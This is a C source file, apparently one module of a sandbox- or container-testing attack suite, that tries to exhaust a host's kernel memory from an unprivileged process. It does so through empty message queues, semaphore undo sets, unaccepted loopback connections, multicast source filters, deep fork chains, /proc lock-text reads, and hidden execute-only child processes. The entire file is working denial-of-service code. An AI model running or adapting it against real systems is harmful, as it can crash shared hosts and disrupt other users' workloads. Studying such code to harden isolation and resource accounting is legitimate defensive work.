/* SPDX-License-Identifier: MIT */
/* Memory of the host in large numbers of small things: S9, continued. */
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/msg.h>
#include <sys/sem.h>
#include <sys/socket.h>
#include <sys/stat.h>

#include "payload.h"

#define MESSAGE 64 /* bytes of the kernel's for one with nothing in it */
#define UNDO 96    /* ... for what a process has to undo in one set */
#define CONNECTION 3072
#define SOURCES 64
#define AREA 256
#define ANCESTOR 64
#define DEPTH 40
#define LOCKS 4000

/* ---- System V ---- */

static long take_messages(long total)
{
        long have = 0, message[2] = { 1, 0 };

        while (have < total) {
                int queue = msgget(IPC_PRIVATE, 0600);

                if (queue < 0)
                        break;
                while (have < total && msgsnd(queue, message, 0, IPC_NOWAIT) == 0)
                        have += MESSAGE;
        }
        return have;
}

static int sets[8192], n_sets;

static long undo_sets(long total)
{
        struct sembuf up = { .sem_op = 1, .sem_flg = SEM_UNDO };
        long have = 0;

        for (int i = 0; i < n_sets && have < total && semop(sets[i], &up, 1) == 0; i++)
                have += UNDO;
        return have;
}

static long take_undo_sets(long total)
{
        while (n_sets < (int)COUNT(sets) && n_sets * 100L * UNDO < total) {
                sets[n_sets] = semget(IPC_PRIVATE, 1, 0600);
                if (sets[n_sets++] < 0)
                        return 0;
        }
        return in_processes(100, total, undo_sets);
}

/* ---- Sockets without an address, and such as nobody has ---- */

/* Connections that nobody accepts, whose other end is gone. */
static long take_unaccepted(long total)
{
        struct sockaddr_in to = { .sin_family = AF_INET,
                                  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        struct linger gone = { 1, 0 };
        socklen_t length = sizeof(to);
        long have = 0;

        while (have < total) {
                int listens = socket(AF_INET, SOCK_STREAM, 0);

                to.sin_port = 0;
                if (listens < 0 || bind(listens, (void *)&to, length) < 0 ||
                    listen(listens, 65535) < 0 || getsockname(listens, (void *)&to, &length) < 0)
                        return have;
                for (int i = 0; i < 4000 && have < total; i++) {
                        int one = socket(AF_INET, SOCK_STREAM, 0);

                        setsockopt(one, SOL_SOCKET, SO_LINGER, &gone, sizeof(gone));
                        if (sendto(one, "x", 1, MSG_FASTOPEN, (void *)&to, length) < 0 &&
                            connect(one, (void *)&to, length) < 0) {
                                close(one);
                                break;
                        }
                        close(one);
                        have += CONNECTION;
                }
        }
        return have;
}

/* Sources of multicast groups that a socket wants. Returns how many bytes they take. */
static long take_sources_of(int fd)
{
        static char room[GROUP_FILTER_SIZE(SOURCES)];
        struct group_filter *filter = (struct group_filter *)room;
        long have = 0;

        for (unsigned id = 0;; id++) {
                struct sockaddr_in6 group = { .sin6_family = AF_INET6 };
                struct ipv6_mreq join = { .ipv6mr_interface = 1 };

                group.sin6_addr.s6_addr[0] = 0xff;
                group.sin6_addr.s6_addr[1] = 0x02;
                memcpy(&group.sin6_addr.s6_addr[8], &id, sizeof(id));
                join.ipv6mr_multiaddr = group.sin6_addr;
                filter->gf_interface = 1;
                filter->gf_fmode = MCAST_INCLUDE;
                filter->gf_numsrc = SOURCES;
                memcpy(&filter->gf_group, &group, sizeof(group));
                for (unsigned i = 0; i < SOURCES; i++) {
                        struct sockaddr_in6 source = { .sin6_family = AF_INET6 };

                        source.sin6_addr.s6_addr[0] = 0xfd;
                        source.sin6_addr.s6_addr[15] = (unsigned char)i;
                        memcpy(&filter->gf_slist[i], &source, sizeof(source));
                }
                if (setsockopt(fd, IPPROTO_IPV6, IPV6_JOIN_GROUP, &join, sizeof(join)) < 0 ||
                    setsockopt(fd, IPPROTO_IPV6, MCAST_MSFILTER, filter, sizeof(room)) < 0)
                        return have;
                have += SOURCES * 16;
        }
}

static long take_sources_part(long total)
{
        long have = 0, more = 1;

        while (have < total && more > 0) {
                int fd = socket(AF_INET6, SOCK_DGRAM, 0);

                more = fd < 0 ? 0 : take_sources_of(fd);
                have += more;
        }
        return have;
}

static long take_sources(long total)
{
        return in_processes(8, total, take_sources_part);
}

/* ... of sockets on their way in messages. */
static long take_sources_sent(long total)
{
        long have = 0, more = 1;
        int pair[2];

        for (int i = 0; have < total && more > 0; i++) {
                int fd = socket(AF_INET6, SOCK_DGRAM, 0);

                if (i % 100 == 0 && socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
                        break;
                more = fd < 0 ? 0 : take_sources_of(fd);
                if (more > 0 && send_descriptor(pair[0], fd) < 0)
                        break;
                close(fd);
                have += more;
        }
        return have;
}

/* ---- Areas ---- */

static long cut_areas(long n, bool touch)
{
        char *at = mmap(NULL, (size_t)n * 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
                        -1, 0);

        if (at == MAP_FAILED)
                return 0;
        madvise(at, (size_t)n * 4096, MADV_NOHUGEPAGE);
        for (long i = 0; i < n; i += 2)
                if (mprotect(at + i * 4096, 4096, PROT_READ | PROT_WRITE | PROT_EXEC) < 0)
                        return i;
        for (long i = 0; touch && i < n; i++)
                at[i * 4096] = 1;
        return n;
}

/* Each area of a process that was forked knows all those that it was inherited from. With `gone`,
 * those in between have ended. */
static long take_lineage(long total, bool gone)
{
        long n = cut_areas(total / (DEPTH * DEPTH / 2 * ANCESTOR), true), have = 0;
        int ends[2];
        pid_t pid;

        if (pipe(ends) < 0)
                return 0;
        for (int depth = 1; depth <= DEPTH; depth++) {
                pid = fork();
                if (pid < 0)
                        break;
                if (pid > 0 && depth == 1)
                        break;
                if (pid > 0) {
                        if (gone && depth % 2)
                                _exit(0);
                        nap(8);
                        _exit(0);
                }
                have += n * ANCESTOR * depth;
                if (depth == DEPTH) {
                        (void)!write(ends[1], &have, sizeof(have));
                        nap(8);
                        _exit(0);
                }
        }
        close(ends[1]);
        return read(ends[0], &have, sizeof(have)) == sizeof(have) ? have : 0;
}

static long take_inherited(long total)
{
        return take_lineage(total, false);
}

static long take_orphaned(long total)
{
        return take_lineage(total, true);
}

/* ---- Texts of /proc ---- */

static int lock_much(void)
{
        int fd = open(scratch("locked"), O_RDWR | O_CREAT, 0600);

        for (long i = LOCKS; fd >= 0 && i-- > 0;) {
                struct flock lock = { .l_type = F_WRLCK,
                                      .l_whence = SEEK_SET,
                                      .l_start = (1L << 40) + 2 * i,
                                      .l_len = 1 };

                if (fcntl(fd, F_SETLK, &lock) < 0)
                        return -1;
        }
        return fd;
}

/* Open a file that tells of all locks, and have it told. */
static long take_text(int fd, int *ret)
{
        char name[64], byte;

        snprintf(name, sizeof(name), "/proc/self/fdinfo/%d", fd);
        *ret = open(name, O_RDONLY);
        return *ret >= 0 && read(*ret, &byte, 1) == 1 ? LOCKS * 64L : 0;
}

static long take_lock_texts(long total)
{
        long have = 0, more = 1;
        int fd = lock_much(), text;

        while (fd >= 0 && have < total && more > 0) {
                more = take_text(fd, &text);
                have += more;
        }
        return have;
}

static long take_texts_sent(long total)
{
        int fd = lock_much(), pair[2], text;
        long have = 0, more = 1;

        if (fd < 0)
                return 0;
        for (int i = 0; have < total && more > 0; i++) {
                if (i % 100 == 0 && socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0)
                        break;
                more = take_text(fd, &text);
                if (more > 0 && send_descriptor(pair[0], text) < 0)
                        break;
                close(text);
                have += more;
        }
        return have;
}

/* ---- A program that can be executed and not read ---- */

static bool copy_self(const char *to)
{
        static char block[65536];
        int in = open("/proc/self/exe", O_RDONLY), out = open(to, O_WRONLY | O_CREAT, 0700);
        ssize_t n;

        while (in >= 0 && out >= 0 && (n = read(in, block, sizeof(block))) > 0)
                if (write(out, block, (size_t)n) != n)
                        return false;
        close(in);
        return out >= 0 && fchmod(out, 0111) == 0 && close(out) == 0;
}

static int fill_pipes(void)
{
        static char block[65536];
        int ends[2], n = 0;

        for (; n < 40 && pipe(ends) == 0; n++) {
                fcntl(ends[1], F_SETFL, O_NONBLOCK);
                while (write(ends[1], block, sizeof(block)) > 0)
                        ;
        }
        return n;
}

static int s9_hidden_part(int argc, char **argv)
{
        bool pipes = argc > 0 && strcmp(argv[0], "pipes") == 0;
        long have = pipes ? fill_pipes() * 65536L
                          : cut_areas(argument(argc, argv, 1, 60000), false) * AREA;

        (void)!write(STDOUT_FILENO, &have, sizeof(have));
        nap(8);
        return 0;
}

static long take_hidden(const char *what, long total, long each)
{
        const char *name = scratch("hidden");
        int ends[2], started = 0;
        long have = 0, part;

        if (!copy_self(name) || pipe(ends) < 0)
                return 0;
        for (long i = 0; i < total / each; i++) {
                pid_t pid = fork();

                if (pid == 0) {
                        dup2(ends[1], STDOUT_FILENO);
                        execl(name, name, "S9-hidden-part", self_token, what, "40000", NULL);
                        _exit(1);
                }
                started += pid > 0;
        }
        close(ends[1]);
        while (started-- > 0 && read(ends[0], &part, sizeof(part)) == sizeof(part))
                have += part;
        return have;
}

static long take_hidden_areas(long total)
{
        return take_hidden("areas", total, 40000L * AREA);
}

static long take_hidden_pipes(long total)
{
        return take_hidden("pipes", total, 40 * 65536L);
}

static const struct memory_kind kinds[] = {
        { "empty-messages", take_messages },   { "undo-sets", take_undo_sets },
        { "unaccepted", take_unaccepted },     { "sources", take_sources },
        { "sources-sent", take_sources_sent }, { "inherited-areas", take_inherited },
        { "orphaned-areas", take_orphaned },   { "lock-texts", take_lock_texts },
        { "texts-sent", take_texts_sent },     { "hidden-areas", take_hidden_areas },
        { "hidden-pipes", take_hidden_pipes },
};

static int s9_small(int argc, char **argv)
{
        return take_kind(kinds, COUNT(kinds), argc, argv);
}

const struct attack attacks_memory5[] = {
        { "S9-small", s9_small },
        { "S9-hidden-part", s9_hidden_part },
        { NULL, NULL },
};
